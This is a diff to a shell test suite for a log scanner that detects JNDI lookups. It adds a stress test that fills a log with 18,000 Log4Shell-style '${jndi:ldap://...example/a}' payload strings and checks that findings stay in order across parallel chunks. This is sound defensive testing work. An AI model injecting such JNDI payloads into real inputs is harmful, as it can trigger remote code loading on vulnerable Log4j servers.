@@ -42,4 +42,19 @@ import json; s=json.load(open("sum.json")); n=int(open("nlines").read())
 assert s["lines"] == n, (s["lines"], n)
 import os; assert s["bytes"] == os.path.getsize("big.log"), s["bytes"]' \
   && ok "summary counts every line and byte across chunks" || fail "summary line/byte count"
+
+# attack-dense: a finding on every line, more than a chunk buffers, so the
+# chunks stream their records; order and numbering must still hold
+python3 - <<'PY'
+pad = "x" * 1900
+with open("dense.log", "w") as f:
+    for i in range(1, 18001):
+        f.write("%s ${jndi:ldap://d%d.example/a}\n" % (pad, i))
+PY
+for j in 1 2; do
+    "$DEFUSE" logs -j$j --kind=jndi dense.log | sed 's/: jndi.*//' > dgot$j.txt
+done
+seq 1 18000 | sed 's/^/dense.log:/' > dwant.txt
+cmp -s dgot1.txt dwant.txt && ok "dense -j1: 18000 findings in order" || fail "dense -j1 order"
+cmp -s dgot2.txt dwant.txt && ok "dense -j2: 18000 findings in order across streamed chunks" || { fail "dense -j2 order"; diff dgot2.txt dwant.txt | head -5 >&2; }
 finish
